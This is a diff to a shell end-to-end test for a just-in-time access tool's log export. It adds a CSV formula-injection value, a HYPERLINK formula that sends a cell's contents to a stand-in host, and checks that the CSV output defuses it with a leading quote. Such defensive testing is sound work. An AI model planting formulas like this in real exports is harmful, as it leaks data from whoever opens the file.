@@ -8,7 +8,10 @@
 export JITD_TEST_LOG_HOLD_FILE=$TMP/log-hold
 e2e_default_setup drop
 
-sign --src 192.0.2.2 --port 22 --for 3 --jti au-short --sub alice | submit - >/dev/null || fail "au-short refused"
+# A reason a spreadsheet would run as a formula: the CSV export defuses it.
+formula='=HYPERLINK("http://x.example/?"&A2,"INC-1")'
+sign --src 192.0.2.2 --port 22 --for 3 --jti au-short --sub alice --reason "$formula" | submit - \
+	>/dev/null || fail "au-short refused"
 sign --src 192.0.2.3 --port 22 --for 120 --jti au-long --sub 'bob, "the admin"' --reason 'INC-7, "urgent"' | submit - >/dev/null || fail "au-long refused"
 rc=0
 sign --src 192.0.2.2 --port 2222 --for 60 --jti au-bad | submit - >/dev/null 2>&1 || rc=$?
@@ -80,7 +83,7 @@ pass "--user (exactly) and --event filter, combined with each other and --since 
 	fail "jitctl log table: $(cat "$TMP/log.txt")"
 pass "the table: a header and one line per event, with code, message and peer"
 "$JITCTL_BIN" -s "$SOCK" log --csv >"$TMP/log.csv" || fail "jitctl log --csv failed"
-python3 - "$TMP/log.csv" "$TMP/all.json" <<'PY' || fail "CSV check failed"
+python3 - "$TMP/log.csv" "$TMP/all.json" "$formula" <<'PY' || fail "CSV check failed"
 import csv, json, sys
 rows = list(csv.reader(open(sys.argv[1], newline="")))
 events = json.load(open(sys.argv[2]))
@@ -93,8 +96,10 @@ for row, ev in zip(body, events):
 long = [r for r in body if r["grant"] == "au-long" and r["event"] == "grant.applied"][0]
 assert long["sub"] == 'bob, "the admin"', long["sub"]
 assert long["reason"] == 'INC-7, "urgent"', repr(long["reason"])
+short = [r for r in body if r["grant"] == "au-short" and r["event"] == "grant.applied"][0]
+assert short["reason"] == "'" + sys.argv[3], repr(short["reason"])
 PY
-pass "--csv parses with Python's csv module: one row per event, commas and quotes intact"
+pass "--csv parses with Python's csv module: one row per event, commas and quotes intact, a formula defused"
 
 log "per-port activity, before and after a restart"
 check_activity() {
